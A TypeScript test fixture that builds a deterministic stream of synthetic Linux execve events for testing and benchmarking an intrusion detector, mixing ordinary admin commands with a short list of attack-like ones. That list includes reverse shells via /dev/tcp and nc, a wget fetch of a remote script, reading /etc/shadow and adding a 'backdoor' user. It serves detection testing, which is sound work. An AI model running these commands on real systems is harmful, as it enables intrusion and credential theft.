/**
 * Execve events for tests and the benchmark: one with chosen fields, and a deterministic stream shaped like a
 * Linux fleet's (mostly shells, package managers, builds and services, a few attack-like commands).
 */
import type { ExecveEvent } from '../../schemas/types.js';

export function execveEvent(o: Partial<ExecveEvent> = {}): ExecveEvent {
  return {
    hostId: 'host-1',
    hostname: 'web-1',
    bootId: 'boot-1',
    seq: 1n,
    timeNs: 1_700_000_000_000_000_000n,
    processStartNs: 1n,
    pid: 4242,
    tid: 4242,
    ppid: 1000,
    uid: 1000n,
    euid: 1000n,
    gid: 1000n,
    loginUid: 1000n,
    sessionId: 3n,
    comm: (o.image ?? '/usr/bin/ls').split('/').pop()!.slice(0, 15),
    image: '/usr/bin/ls',
    argv: ['ls', '-la'],
    argvTruncated: false,
    argvBytes: 6,
    cwd: '/home/alice',
    cgroupId: 1n,
    containerId: null,
    userName: 'alice',
    parentImage: '/usr/bin/bash',
    parentCommandLine: 'bash',
    ancestors: ['/usr/lib/systemd/systemd', '/usr/sbin/sshd', '/usr/bin/bash'],
    sha256: null,
    collectorVersion: 'test',
    ...o,
  };
}

/** Small deterministic PRNG (mulberry32), so every run sees the same corpus. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// [image, argv, parent image, parent command line, cwd]
type Template = [string, string[], string, string, string];

const BENIGN: Template[] = [
  ['/usr/bin/ls', ['ls', '--color=auto', '-la'], '/usr/bin/bash', '-bash', '/home/alice'],
  ['/usr/bin/git', ['git', 'status', '--porcelain'], '/usr/bin/zsh', 'zsh', '/home/alice/src/app'],
  ['/usr/bin/git', ['git', 'fetch', 'origin', 'main'], '/usr/bin/bash', 'bash', '/srv/app'],
  [
    '/usr/bin/apt-get',
    ['apt-get', 'install', '-y', 'nginx'],
    '/usr/bin/sudo',
    'sudo apt-get install -y nginx',
    '/root',
  ],
  ['/usr/bin/dpkg', ['dpkg', '--status', 'libc6'], '/usr/bin/apt-get', 'apt-get update', '/'],
  ['/usr/bin/make', ['make', '-j4', 'all'], '/usr/bin/bash', 'bash', '/home/bob/build'],
  [
    '/usr/bin/gcc',
    ['gcc', '-O2', '-c', 'main.c', '-o', 'main.o'],
    '/usr/bin/make',
    'make -j4 all',
    '/home/bob/build',
  ],
  [
    '/usr/bin/node',
    ['node', 'dist/server.js', '--port', '8080'],
    '/usr/lib/systemd/systemd',
    '/sbin/init',
    '/srv/app',
  ],
  [
    '/usr/bin/python3',
    ['python3', '-m', 'pip', 'install', '-r', 'requirements.txt'],
    '/usr/bin/bash',
    'bash',
    '/srv/ml',
  ],
  ['/usr/bin/systemctl', ['systemctl', 'status', 'nginx.service'], '/usr/bin/bash', 'bash', '/root'],
  ['/usr/sbin/nginx', ['nginx', '-g', 'daemon off;'], '/usr/lib/systemd/systemd', '/sbin/init', '/'],
  ['/usr/bin/cat', ['cat', '/var/log/syslog'], '/usr/bin/bash', 'bash', '/var/log'],
  ['/usr/bin/grep', ['grep', '-r', 'TODO', 'src/'], '/usr/bin/bash', 'bash', '/home/alice/src/app'],
  ['/usr/bin/tar', ['tar', '-czf', 'backup.tar.gz', 'data/'], '/usr/bin/bash', 'bash', '/srv'],
  ['/usr/bin/docker', ['docker', 'ps', '--format', '{{.Names}}'], '/usr/bin/bash', 'bash', '/root'],
  ['/usr/bin/ssh', ['ssh', '-p', '22', 'deploy@10.0.0.5'], '/usr/bin/bash', 'bash', '/home/alice'],
  ['/usr/bin/cargo', ['cargo', 'build', '--release'], '/usr/bin/bash', 'bash', '/home/bob/rust'],
  ['/usr/bin/npm', ['npm', 'ci'], '/usr/bin/bash', 'bash', '/srv/app'],
  ['/usr/bin/sed', ['sed', '-i', 's/foo/bar/g', 'config.ini'], '/usr/bin/bash', 'bash', '/etc/app'],
  [
    '/usr/bin/find',
    ['find', '.', '-name', '*.log', '-mtime', '+7'],
    '/usr/sbin/cron',
    '/usr/sbin/cron -f',
    '/var/log',
  ],
  [
    '/usr/bin/rsync',
    ['rsync', '-az', 'data/', 'backup:/data/'],
    '/usr/sbin/cron',
    '/usr/sbin/cron -f',
    '/srv',
  ],
  ['/usr/bin/sh', ['sh', '-c', 'run-parts /etc/cron.daily'], '/usr/sbin/cron', '/usr/sbin/cron -f', '/'],
  ['/usr/bin/ps', ['ps', 'aux'], '/usr/bin/bash', 'bash', '/home/alice'],
  [
    '/usr/bin/journalctl',
    ['journalctl', '-u', 'nginx', '--since', 'today'],
    '/usr/bin/bash',
    'bash',
    '/root',
  ],
];

const ATTACKS: Template[] = [
  [
    '/usr/bin/bash',
    ['bash', '-i', '>&', '/dev/tcp/10.0.0.9/4444', '0>&1'],
    '/usr/bin/python3',
    'python3 x.py',
    '/tmp',
  ],
  ['/usr/bin/wget', ['wget', 'http://198.51.100.7/x.sh', '-O', '/tmp/x.sh'], '/usr/bin/sh', 'sh -c', '/tmp'],
  ['/usr/bin/chmod', ['chmod', '+x', '/tmp/x.sh'], '/usr/bin/sh', 'sh -c', '/tmp'],
  ['/usr/bin/base64', ['base64', '-d', '/tmp/p.b64'], '/usr/bin/bash', 'bash', '/tmp'],
  ['/usr/bin/crontab', ['crontab', '-l'], '/usr/bin/bash', 'bash', '/tmp'],
  ['/usr/bin/nc', ['nc', '-e', '/bin/sh', '10.0.0.9', '4444'], '/usr/bin/bash', 'bash', '/tmp'],
  ['/usr/bin/cat', ['cat', '/etc/shadow'], '/usr/bin/bash', 'bash', '/tmp'],
  ['/usr/sbin/useradd', ['useradd', '-m', 'backdoor'], '/usr/bin/sudo', 'sudo useradd', '/root'],
];

/** `n` events: a share `attackRate` (default one in 200) attack-like, the rest benign; same seed, same events. */
export function generateEvents(n: number, seed = 1, attackRate = 0.005): ExecveEvent[] {
  const rnd = prng(seed);
  const users = ['alice', 'bob', 'root', 'www-data', 'deploy'];
  const out: ExecveEvent[] = [];
  for (let i = 0; i < n; i++) {
    const pool = rnd() < attackRate ? ATTACKS : BENIGN;
    const [image, argv, parentImage, parentCommandLine, cwd] = pool[Math.floor(rnd() * pool.length)]!;
    const extra = rnd() < 0.3 ? [`--job=${Math.floor(rnd() * 10000)}`] : [];
    const user = users[Math.floor(rnd() * users.length)]!;
    out.push(
      execveEvent({
        seq: BigInt(i),
        pid: 1000 + (i % 30000),
        image,
        argv: [...argv, ...extra],
        parentImage,
        parentCommandLine,
        cwd,
        userName: user,
        loginUid: user === 'root' ? 0n : 1000n,
      }),
    );
  }
  return out;
}
